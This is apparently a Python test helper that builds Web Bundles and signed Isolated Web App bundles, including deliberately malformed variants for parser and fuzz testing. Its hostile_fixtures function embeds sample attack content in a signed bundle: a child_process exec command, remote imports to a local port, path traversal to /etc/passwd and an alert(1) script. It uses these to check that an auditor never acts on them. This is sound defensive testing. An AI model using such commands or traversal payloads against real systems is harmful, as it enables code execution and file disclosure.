"""Build Web Bundles and Signed Web Bundles for tests, with knobs to break one thing at a time.

    wbn = build_wbn({"": page("<p>hi</p>"), ".well-known/manifest.webmanifest": {"name": "x"}})
    swbn = sign(wbn, [ed25519_key(1)])

Keys are deterministic (from a small integer seed). Encoding is canonical CBOR
(cbor2 canonical=True), like the official `wbn` tool; `canonical=False` and
the `corrupt_*` helpers make the malformed variants readers must reject.
"""

from __future__ import annotations

import base64
import hashlib
import json
from dataclasses import dataclass, field

import cbor2
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519

WBN_MAGIC = bytes.fromhex("f09f8c90f09f93a6")
IB_MAGIC = bytes.fromhex("f09f968bf09f93a6")
SUFFIX = {"ed25519": bytes.fromhex("000102"), "ecdsa": bytes.fromhex("000202")}
MIME = {".html": "text/html", ".js": "application/javascript", ".css": "text/css", ".png": "image/png", ".json": "application/json", ".webmanifest": "application/manifest+json", ".svg": "image/svg+xml"}


@dataclass
class Response:
    body: bytes = b""
    headers: dict[str, str] = field(default_factory=dict)
    status: str = "200"


def _content_type(url: str) -> str:
    name = url.rsplit("/", 1)[-1] or "index.html"
    for suffix, mime in MIME.items():
        if name.endswith(suffix):
            return mime
    return "text/html" if "." not in name else "application/octet-stream"


def as_response(url: str, content: object) -> Response:
    """Strings, bytes and JSON-able values become 200 responses with `wbn`'s content type."""
    if isinstance(content, Response):
        return content
    if isinstance(content, (dict, list)):
        body = json.dumps(content, indent=2).encode()
    elif isinstance(content, str):
        body = content.encode()
    else:
        body = bytes(content)  # type: ignore[arg-type]
    return Response(body, {"content-type": _content_type(url)} if body else {})


def encode_response(response: Response, extra_headers: dict[str, str], canonical: bool) -> bytes:
    headers = {b":status": response.status.encode()}
    for name, value in {**extra_headers, **response.headers}.items():
        headers[name.encode("latin-1")] = value.encode("latin-1")
    header_bytes = cbor2.dumps(headers, canonical=canonical)
    return cbor2.dumps([header_bytes, response.body], canonical=canonical)


def build_wbn(
    files: dict[str, object],
    *,
    headers: dict[str, str] | None = None,
    primary_url: str | None = None,
    version: bytes = b"b2\x00\x00",
    canonical: bool = True,
    extra_index: dict[str, tuple[int, int]] | None = None,
    raw_responses: dict[str, bytes] | None = None,
    trailer: bool = True,
) -> bytes:
    """A b2 web bundle with one response per URL key (relative or absolute), in the given order.

    `raw_responses` replaces the encoded response of some URLs with the given
    bytes (a lazily broken response); `trailer=False` leaves out the trailing
    length, as an IWA signed bundle may.
    """
    raw = raw_responses or {}
    responses = [raw[url] if url in raw else encode_response(as_response(url, content), headers or {}, canonical) for url, content in files.items()]
    responses_head = cbor2.dumps([None] * len(responses))[:-len(responses)] if responses else b"\x80"
    index: dict[str, list[int]] = {}
    offset = len(responses_head)
    for url, encoded in zip(files, responses, strict=False):
        index[url] = [offset, len(encoded)]
        offset += len(encoded)
    for url, (off, length) in (extra_index or {}).items():
        index[url] = [off, length]
    responses_section = responses_head + b"".join(responses)
    index_section = cbor2.dumps(index, canonical=canonical)
    sections = []
    names_lengths: list[object] = []
    if primary_url is not None:
        primary = cbor2.dumps(primary_url)
        sections.append(primary)
        names_lengths += ["primary", len(primary)]
    sections += [index_section, responses_section]
    names_lengths += ["index", len(index_section), "responses", len(responses_section)]
    body = (
        b"\x48" + WBN_MAGIC
        + cbor2.dumps(version)
        + cbor2.dumps(cbor2.dumps(names_lengths))
        + cbor2.dumps([None] * len(sections))[:1]
        + b"".join(sections)
    )
    if not trailer:
        return b"\x85" + body
    total = 1 + len(body) + 9
    return b"\x85" + body + b"\x48" + total.to_bytes(8, "big")


def fullwidth(text: str) -> str:
    """ASCII letters and digits as their fullwidth forms (IDNA maps them back)."""
    return "".join(chr(ord(c) + 0xFEE0) if c.isascii() and c.isalnum() else c for c in text)


def alias_spellings(path: str, app_id: str) -> dict[str, str]:
    """Index keys Chrome canonicalises to `isolated-app://<app_id>/<path>`, one per alias class (path without a leading `/`)."""
    host_first = f"%{ord(app_id[0]):02X}{app_id[1:]}"
    return {
        "plain": path,
        "absolute-path": "/" + path,
        "dot-segment": "./" + path,
        "percent-dot": "%2e/" + path,
        "percent-dot-dot": "a/%2E%2e/" + path,
        "above-root": "../" + path,
        "backslash": "\\" + path.replace("/", "\\"),
        "absolute": f"isolated-app://{app_id}/{path}",
        "upper-case": f"ISOLATED-APP://{app_id.upper()}/{path}",
        "fullwidth-host": f"isolated-app://{fullwidth(app_id)}/{path}",
        "percent-host": f"isolated-app://{host_first}/{path}",
        "user-info": f"isolated-app://user:pass@{app_id}/{path}",
        "port": f"isolated-app://{app_id}:443/{path}",
        "port-out-of-range": f"isolated-app://{app_id}:99999/{path}",
        "relative-scheme": f"isolated-app:{path}",
        "network-path": f"//{app_id}/{path}",
        "trailing-space": path + " ",
        "tab": path[:1] + "\t" + path[1:],
    }


def index_order(keys) -> list[str]:
    """Keys in the order a canonical CBOR index holds them (what Chrome calls index order)."""
    return sorted(keys, key=lambda k: (len(cbor2.dumps(k)), cbor2.dumps(k)))


def ed25519_key(seed: int = 1) -> ed25519.Ed25519PrivateKey:
    return ed25519.Ed25519PrivateKey.from_private_bytes(hashlib.sha256(b"iwa-audit test key %d" % seed).digest())


def ecdsa_key(seed: int = 1) -> ec.EllipticCurvePrivateKey:
    value = int.from_bytes(hashlib.sha256(b"iwa-audit ecdsa key %d" % seed).digest(), "big") % (2**255) + 1
    return ec.derive_private_key(value, ec.SECP256R1())


def public_bytes(key) -> bytes:
    if isinstance(key, ed25519.Ed25519PrivateKey):
        return key.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
    return key.public_key().public_bytes(serialization.Encoding.X962, serialization.PublicFormat.CompressedPoint)


def key_kind(key) -> str:
    return "ed25519" if isinstance(key, ed25519.Ed25519PrivateKey) else "ecdsa"


def web_bundle_id(key) -> str:
    """The ID `wbn-sign` prints for this key."""
    return base64.b32encode(public_bytes(key) + SUFFIX[key_kind(key)]).decode().rstrip("=").lower()


def entry_attributes(key) -> dict:
    return {"ed25519PublicKey" if key_kind(key) == "ed25519" else "ecdsaP256SHA256PublicKey": public_bytes(key)}


def signing_payload(wbn: bytes, attributes_raw: bytes, entry_raw: bytes) -> bytes:
    return signing_payload_from_hash(hashlib.sha512(wbn).digest(), attributes_raw, entry_raw)


def signing_payload_from_hash(wbn_sha512: bytes, attributes_raw: bytes, entry_raw: bytes) -> bytes:
    """What each signature signs (spec §2.4), from the web bundle's SHA-512 (streaming builders)."""
    minimal = b"\x84\x48" + IB_MAGIC + b"\x44" + b"2b\x00\x00" + attributes_raw + b"\x80"
    return b"".join(len(p).to_bytes(8, "big") + p for p in (wbn_sha512, minimal, entry_raw))


def sign_payload(key, payload: bytes) -> bytes:
    if key_kind(key) == "ed25519":
        return key.sign(payload)
    return key.sign(payload, ec.ECDSA(hashes.SHA256()))


def sign(
    wbn: bytes,
    keys: list,
    *,
    web_bundle_id_override: str | None = None,
    attributes: dict | None = None,
    extra_entries: list[tuple[dict, bytes]] = (),  # type: ignore[assignment]
    version: bytes = b"2b\x00\x00",
    attributes_raw: bytes | None = None,
    entry_extra_raw: tuple[tuple[bytes, bytes], ...] = (),
) -> bytes:
    """Prepend an integrity block; the ID defaults to the first key's, like `wbn-sign`.

    Non-canonical blocks: `attributes` may hold any value cbor2 encodes
    (`None`, `cbor2.undefined`, 2**63, text with noncharacters);
    `attributes_raw` replaces the block's attribute map with exact bytes (for
    duplicate or non-text names), and `entry_extra_raw` (pairs of encoded
    name and value) is appended inside every signature entry's map, whose
    head is adjusted. Signatures are computed over the bytes as written.
    """
    wbid = web_bundle_id_override or web_bundle_id(keys[0])
    attrs = {"webBundleId": wbid, **(attributes or {})}
    if attributes_raw is None:
        attributes_raw = cbor2.dumps(attrs, canonical=True)
    stack = []
    for key in keys:
        entry_raw = cbor2.dumps(entry_attributes(key), canonical=True)
        if entry_extra_raw:
            entry_raw = bytes([entry_raw[0] + len(entry_extra_raw)]) + entry_raw[1:] + b"".join(n + v for n, v in entry_extra_raw)
        stack.append(b"\x82" + entry_raw + cbor2.dumps(sign_payload(key, signing_payload(wbn, attributes_raw, entry_raw))))
    for entry_attrs, signature in extra_entries:
        stack.append(b"\x82" + cbor2.dumps(entry_attrs, canonical=True) + cbor2.dumps(signature))
    if version == b"1b\x00\x00":
        block = b"\x83\x48" + IB_MAGIC + b"\x44" + version + cbor2.dumps([None] * len(stack))[:1] + b"".join(stack)
    else:
        block = b"\x84\x48" + IB_MAGIC + b"\x44" + version + attributes_raw + cbor2.dumps([None] * len(stack))[:1] + b"".join(stack)
    return block + wbn


def simple_app(manifest: dict | None = None, **extra: object) -> dict[str, object]:
    """A minimal valid IWA as index URL -> content (relative URLs, like `wbn` writes)."""
    files: dict[str, object] = {
        "": "<!doctype html><title>app</title><script type=\"module\" src=\"/app.js\"></script>",
        "app.js": "document.body.textContent = 'hi';",
        ".well-known/manifest.webmanifest": manifest or {"name": "App", "id": "/", "scope": "/", "start_url": "/", "version": "1.0.0"},
    }
    files.update(extra)
    return files


def fuzz_seeds() -> list[bytes]:
    """Valid bundles of each flavour for the fuzz harness to mutate."""
    wbn = build_wbn(simple_app())
    return [wbn, sign(wbn, [ed25519_key(1)]), sign(wbn, [ecdsa_key(1)]), sign(wbn, [ed25519_key(1), ecdsa_key(2)])]


def hostile_fixtures(root) -> dict[str, object]:
    """Signed bundles that try to make an auditor act, for the never-writes test.

    Remote URLs, script and traversal keys inside a valid .swbn, plus a truncated
    one and one whose length heads lie.
    """
    from pathlib import Path

    root = Path(root)
    files = simple_app(
        {"name": "x", "update_manifest_url": "http://127.0.0.1:9/u.json", "icons": [{"src": "../../etc/passwd"}]},
        **{
            "evil.js": 'import("https://127.0.0.1:9/m.js"); require("child_process").exec("touch /tmp/pwned")',
            "https://127.0.0.1:9/remote.js": "fetch('http://127.0.0.1:9/')",
            "../../../../tmp/escape.html": "<script>alert(1)</script>",
        },
    )
    signed = sign(build_wbn(files), [ed25519_key(7)])
    paths = {}
    for name, data in {
        "swbn-remote-urls": signed,
        "swbn-truncated": signed[: len(signed) // 2],
        "swbn-lying-length": signed[:200] + b"\x5b\xff\xff\xff\xff\xff\xff\xff\xff" + signed[209:],
    }.items():
        path = root / f"{name}.swbn"
        path.write_bytes(data)
        paths[name] = path
    return paths
